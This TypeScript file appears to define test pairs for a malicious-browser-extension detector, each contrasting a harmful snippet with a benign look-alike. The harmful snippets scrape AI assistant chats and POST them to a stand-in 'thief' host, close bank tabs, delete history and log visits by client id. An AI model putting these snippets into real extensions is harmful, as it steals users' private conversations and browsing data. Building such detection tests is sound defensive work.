import { finding, thief, type Fact } from '../case.ts';
import { pairsOf, type Pair, type Row } from '../pairs.ts';

const chats: Fact = finding('ai-chats-collected');
const denied: Fact = finding('site-denied-by-code');
const on = (...matches: readonly string[]): object => ({
  content_scripts: [{ matches, js: ['content.js'] }],
});
const turns = "[...document.querySelectorAll('article')].map((turn) => turn.innerText)";
const send = (host: string): string =>
  `fetch('https://${host}/a', { method: 'POST', body: JSON.stringify(${turns}) })`;

/** Conversations with assistants, read by whom and for whom. */
const conversations: Readonly<Record<string, Row>> = {
  'of which site': {
    content: { 'content.js': `setInterval(() => ${send(thief)}, 5000);` },
    manifest: on('https://«chatgpt.com¦tides.io»/*'),
    fact: chats,
  },
  'sent to whom': {
    content: { 'content.js': `setInterval(() => ${send(`«${thief}¦claude.ai»`)}, 5000);` },
    manifest: on('https://claude.ai/*'),
    fact: chats,
  },
  'asked for by a click': {
    content: {
      'content.js': `const button = document.createElement('button'); document.body.append(button); const share = () => ${send(thief)}; «setInterval(share, 5000)¦button.addEventListener('click', share)»;`,
    },
    manifest: on('https://gemini.google.com/*'),
    fact: chats,
  },
  'told by the host of the page': {
    content: {
      'content.js': `if (location.host === '«www.perplexity.ai¦www.tides.io»') new MutationObserver(() => ${send(thief)}).observe(document.body, { childList: true });`,
    },
    fact: chats,
  },
};

const listen = 'chrome.tabs.onUpdated.addListener';
/** Sites that the code keeps people from, and sites that they chose. */
const sites: Readonly<Record<string, Row>> = {
  'a tab of a named site': {
    worker: `const site = '«bank.tides.io¦https://bank.tides.io/done?code=»'; ${listen}((id, { url }) => { if (url?.includes(site)) chrome.tabs.remove(id); });`,
    fact: denied,
  },
  'a visit of a named site': {
    worker: `const site = 'https://www.tides.io/'; chrome.history.onVisited.addListener(({ url }) => { if (url.includes(site)) chrome.history.«deleteUrl({ url })¦getVisits({ url })»; });`,
    fact: denied,
  },
  'a site of the user': {
    worker: `const site = 'www.tides.io'; ${listen}(async (id, { url }) => { const { own } = «{ own: site }¦await chrome.storage.local.get('own')»; if (url?.includes(own)) chrome.tabs.remove(id); });`,
    fact: denied,
  },
};

const log = (body: string): string =>
  `${listen}(async (id, change, tab) => { const { clientId, theme } = await chrome.storage.local.get(); fetch('https://${thief}/a', { method: 'POST', body: JSON.stringify({ ${body} }) }); });`;
/** Visits under an id that is kept, and what is told without one of the two. */
const visits: Readonly<Record<string, Row>> = {
  'an id or a setting': {
    worker: log('u: «clientId¦theme», p: tab.url'),
    fact: finding('visits-logged-by-id'),
  },
  'an address or a state': {
    worker: log('u: clientId, p: «tab.url¦tab.status»'),
    fact: finding('visits-logged-by-id'),
  },
};

/** What campaigns do that send little: each with what an honest extension does alike. */
export const campaignPairs: readonly Pair[] = [
  ...pairsOf('chats with assistants', conversations),
  ...pairsOf('sites that are denied', sites),
  ...pairsOf('visits and who made them', visits),
];
